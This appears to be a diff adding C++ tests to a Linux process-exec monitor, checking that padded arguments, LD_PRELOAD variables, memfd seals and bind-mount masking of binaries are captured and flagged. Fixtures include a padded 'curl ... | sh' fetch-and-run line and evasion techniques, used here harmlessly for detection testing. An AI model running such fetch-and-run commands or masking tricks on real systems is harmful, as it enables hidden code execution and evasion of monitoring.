@@ -4,9 +4,12 @@
 // process before its exec, after the process is gone (so the value came from
 // the kernel at exec time, not from /proc).
 #include <fcntl.h>
+#include <sched.h>
 #include <signal.h>
 #include <spawn.h>
 #include <stdlib.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/statvfs.h>
 #include <sys/wait.h>
@@ -378,6 +381,140 @@ TEST(EbpfExecContextTest, StartTimeOfALiveProcessEqualsTheScansStartTime) {
   EXPECT_EQ(Reap(pid), 0);
 }
 
+// Issue 17 case 2: an argument block past the capture bound keeps its start
+// AND its end (padding in front of "curl ... | sh" hides nothing), with the
+// whole block's length; an environment likewise (LD_PRELOAD after padding).
+TEST(EbpfExecContextTest, ArgvPastTheBoundKeepsItsStartItsEndAndItsLength) {
+  CAPTURE_OR_SKIP(cap);
+  const std::string tok = Token("long-argv");
+  const std::string payload = std::string(4200, ' ') + "curl http://127.0.0.1:9/x | sh";
+  const std::vector<std::string> argv{"/bin/true", tok, payload};
+  std::string pad = "SENTINEL_PAD=" + std::string(5000, 'x');
+  std::string preload = "LD_PRELOAD=/nonexistent/" + tok + ".so";
+  char* envp[] = {pad.data(), preload.data(), nullptr};
+  const pid_t pid = ForkExec([] { return 0; }, argv, envp);
+  ASSERT_EQ(Reap(pid), 0);
+  auto ev = cap->WaitExec(pid);
+  ASSERT_TRUE(ev.has_value());
+  ASSERT_TRUE(ev->argv.has_value()) << ev->incomplete;
+  EXPECT_TRUE(ev->argv_truncated);
+  EXPECT_EQ(ev->args_length, static_cast<int64_t>(argv[0].size() + tok.size() + payload.size() + 3));
+  ASSERT_GE(ev->argv->size(), 3u);
+  EXPECT_EQ((*ev->argv)[0], "/bin/true");
+  EXPECT_EQ((*ev->argv)[1], tok);
+  EXPECT_TRUE(ev->argv->back().ends_with("    curl http://127.0.0.1:9/x | sh")) << ev->argv->back();
+  size_t captured = 0;
+  for (const auto& a : *ev->argv) captured += a.size() + 1;
+  EXPECT_LE(captured, 4096u + 2);
+  ASSERT_TRUE(ev->env.has_value()) << ev->incomplete;
+  EXPECT_TRUE(ev->env->truncated);
+  EXPECT_EQ(ev->env->vars,
+            (std::vector<std::pair<std::string, std::string>>{{"LD_PRELOAD", preload.substr(11)}}));
+
+  // A block that fits: whole, not truncated, its length.
+  const pid_t short_pid = ForkExec([] { return 0; }, {"/bin/true", tok + "-short"});
+  ASSERT_EQ(Reap(short_pid), 0);
+  ev = cap->WaitExec(short_pid);
+  ASSERT_TRUE(ev.has_value());
+  EXPECT_FALSE(ev->argv_truncated);
+  EXPECT_EQ(ev->argv, (std::vector<std::string>{"/bin/true", tok + "-short"}));
+  EXPECT_EQ(ev->args_length, static_cast<int64_t>(std::string("/bin/true").size() + tok.size() + 6 + 2));
+}
+
+// A memfd image's seals come from the kernel at exec (the process is gone
+// when they are looked at); an image that is not a memfd has none.
+TEST(EbpfExecContextTest, MemfdImageSealsFromTheKernel) {
+  CAPTURE_OR_SKIP(cap);
+  auto run_memfd = [&](const char* name, unsigned seals) -> pid_t {
+    const int fd = ::memfd_create(name, MFD_ALLOW_SEALING);
+    if (fd < 0) return -1;
+    const int src = ::open("/bin/true", O_RDONLY | O_CLOEXEC);
+    char buf[65536];
+    ssize_t n;
+    while ((n = ::read(src, buf, sizeof buf)) > 0)
+      if (::write(fd, buf, static_cast<size_t>(n)) != n) return -1;
+    ::close(src);
+    if (seals != 0 && ::fcntl(fd, F_ADD_SEALS, seals) != 0) return -1;
+    const std::string tok = Token(name);
+    char* argv[] = {const_cast<char*>("true"), const_cast<char*>(tok.c_str()), nullptr};
+    const pid_t pid = ::fork();
+    if (pid == 0) {
+      ::fexecve(fd, argv, environ);
+      _exit(127);
+    }
+    ::close(fd);
+    return pid;
+  };
+  const unsigned runc_seals = F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE;
+  const pid_t sealed = run_memfd("runc_cloned:sealed", runc_seals);
+  ASSERT_GT(sealed, 0);
+  ASSERT_EQ(Reap(sealed), 0);
+  const pid_t open_one = run_memfd("runc_cloned:open", 0);
+  ASSERT_GT(open_one, 0);
+  ASSERT_EQ(Reap(open_one), 0);
+  auto ev = cap->WaitExec(sealed);
+  ASSERT_TRUE(ev.has_value());
+  EXPECT_EQ(ev->memfd_seals, static_cast<int64_t>(runc_seals));
+  ev = cap->WaitExec(open_one);
+  ASSERT_TRUE(ev.has_value());
+  EXPECT_EQ(ev->memfd_seals, 0);
+  const pid_t plain = ForkExec([] { return 0; }, {"/bin/true", Token("not-memfd")});
+  ASSERT_EQ(Reap(plain), 0);
+  ev = cap->WaitExec(plain);
+  ASSERT_TRUE(ev.has_value());
+  EXPECT_FALSE(ev->memfd_seals.has_value());
+}
+
+// Issue 17 case 4, exec side: a file bind-mounted over a path in a private
+// mount namespace runs under that path; procmond (the host's namespace)
+// finds another file there: exe_host_mismatch. The same path run without
+// the mount: 0. The process is gone when the row is made.
+TEST(EbpfExecContextTest, ExeHostMismatchOfABindMountInAPrivateMountNamespace) {
+  CAPTURE_OR_SKIP(cap);
+  TempDir tmp;
+  const std::string target = tmp.path() + "/sleep";
+  const std::string payload = tmp.path() + "/payload";
+  std::filesystem::copy_file("/bin/true", target);
+  std::filesystem::copy_file("/bin/true", payload);
+  ::chmod(target.c_str(), 0755);
+  ::chmod(payload.c_str(), 0755);
+  const pid_t masked = ForkExec(
+      [&] {
+        if (::unshare(CLONE_NEWNS) != 0) return 3;
+        if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) return 4;
+        return ::mount(payload.c_str(), target.c_str(), nullptr, MS_BIND, nullptr) == 0 ? 0 : 5;
+      },
+      {target, Token("masked")});
+  ASSERT_EQ(Reap(masked), 0);
+  const pid_t plain = ForkExec([] { return 0; }, {target, Token("plain")});
+  ASSERT_EQ(Reap(plain), 0);
+  auto masked_ev = cap->WaitExec(masked);
+  auto plain_ev = cap->WaitExec(plain);
+  ASSERT_TRUE(masked_ev && plain_ev);
+  RealtimeStats stats;
+  EventWriterOptions opts;
+  opts.hash_executables = false;
+  EventWriter w([](const std::vector<models::ProcessEvent>& r) { return Result<int64_t>(int64_t(r.size())); },
+                &stats, opts);
+  EXPECT_EQ(w.ToRow(*masked_ev).exe_host_mismatch, true);
+  EXPECT_EQ(w.ToRow(*plain_ev).exe_host_mismatch, false);
+  EXPECT_EQ(w.ToRow(*masked_ev).exe_path, target);
+
+  // A script's image is its interpreter: the file at its path is the script,
+  // not a mismatch (and not checked).
+  const std::string script = tmp.path() + "/script.sh";
+  testing::WriteFile(script, "#!/bin/sh\nexit 0\n");
+  ::chmod(script.c_str(), 0755);
+  const pid_t sh = ForkExec([] { return 0; }, {script, Token("script")});
+  ASSERT_EQ(Reap(sh), 0);
+  auto script_ev = cap->WaitExec(sh);
+  ASSERT_TRUE(script_ev.has_value());
+  EXPECT_TRUE(script_ev->interpreted);
+  EXPECT_FALSE(plain_ev->interpreted);
+  EXPECT_EQ(script_ev->exe_path, script);
+  EXPECT_FALSE(w.ToRow(*script_ev).exe_host_mismatch.has_value());
+}
+
 // The netlink fallback reads the same context from /proc while the process
 // lives (of a process already gone it has only what the kernel said: docs/realtime.md).
 TEST(NetlinkExecContextTest, ContextOfALiveProcessFromProc) {
@@ -416,6 +553,33 @@ TEST(NetlinkExecContextTest, ContextOfALiveProcessFromProc) {
   ASSERT_TRUE(fields.ok());
   EXPECT_EQ(ProcessBootClock().StartTimeMs(*ev->start_boottime_ns),
             ProcessBootClock().StartTimeMsFromTicks(fields->starttime_ticks));
+}
+
+// The netlink fallback bounds /proc/PID/cmdline the same way: start and end.
+TEST(NetlinkExecContextTest, ArgvPastTheBoundKeepsItsStartItsEndAndItsLength) {
+  std::string why;
+  auto cap = Capture::Open(&why, /*netlink=*/true);
+  if (!cap) GTEST_SKIP() << why;
+  int in[2];
+  ASSERT_EQ(::pipe(in), 0);
+  const std::string tok = Token("nl-long");
+  const std::vector<std::string> argv{"/bin/sh", "-c", "read x; exit 0", std::string(4200, ' '), tok};
+  const pid_t pid = ForkExec(
+      [&] {
+        ::close(in[1]);
+        return ::dup2(in[0], 0) == 0 ? 0 : 4;
+      },
+      argv);
+  ::close(in[0]);
+  auto ev = cap->WaitExec(pid);
+  ::close(in[1]);
+  EXPECT_EQ(Reap(pid), 0);
+  ASSERT_TRUE(ev.has_value());
+  ASSERT_TRUE(ev->argv.has_value()) << ev->incomplete;
+  EXPECT_TRUE(ev->argv_truncated);
+  EXPECT_EQ(ev->args_length, static_cast<int64_t>(8 + 3 + 15 + 4201 + tok.size() + 1));
+  EXPECT_EQ(ev->argv->front(), "/bin/sh");
+  EXPECT_EQ(ev->argv->back(), tok);
 }
 
 }  // namespace
